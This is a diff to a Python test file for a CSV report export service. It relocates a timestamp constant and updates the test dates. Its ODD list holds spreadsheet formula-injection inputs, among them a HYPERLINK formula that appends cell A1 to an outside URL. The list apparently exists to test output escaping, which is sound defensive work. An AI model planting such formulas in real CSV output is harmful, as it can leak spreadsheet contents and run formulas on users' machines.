@@ -22,11 +22,11 @@ from genai_meter.reports.render.call_csv import CallCsv, format_rows_pure
 from genai_meter.reports.service.app import create_app
 from genai_meter.reports.service.ranges import parse_time
 from genai_meter.reports.views.activity import call_lines
+from tests.ledger.support import T0  # 2026-01-01T00:00:00Z, where the chdb harness seals its rollups
 from tests.reports.conftest import ACME_TOKEN, auth, make_config
 from tests.reports.render.call_csv_reference import reference_bytes
 
 NS = 10**9
-T0 = 1_795_000_000 * NS  # 2026-11-18T05:46:40Z
 NOW_NS = T0 + 10 * 86400 * NS
 SPAN = 3 * 86400 * NS
 ODD = ['=HYPERLINK("http://x/?a="&A1)', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "a,b", 'say "hi"',
@@ -157,7 +157,7 @@ def test_the_service_answers_the_same_bytes(sqlite_ledger: tuple[Config, LedgerR
     config, reader = sqlite_ledger
     client = create_app(config, reader, clock=lambda: NOW_NS).test_client()
     admin = auth()
-    frm, to = "2026-11-18T12:00:00Z", "2026-11-20T18:00:00Z"
+    frm, to = "2026-01-01T12:00:00Z", "2026-01-03T18:00:00Z"
     start, end = parse_time("from", frm), parse_time("to", to)
     cases = [(f"/api/v1/events?format=csv&from={frm}&to={to}", admin, {}, (start, end)),
              (f"/api/v1/events?format=csv&from={frm}&to={to}&bom=1", admin, {}, (start, end)),
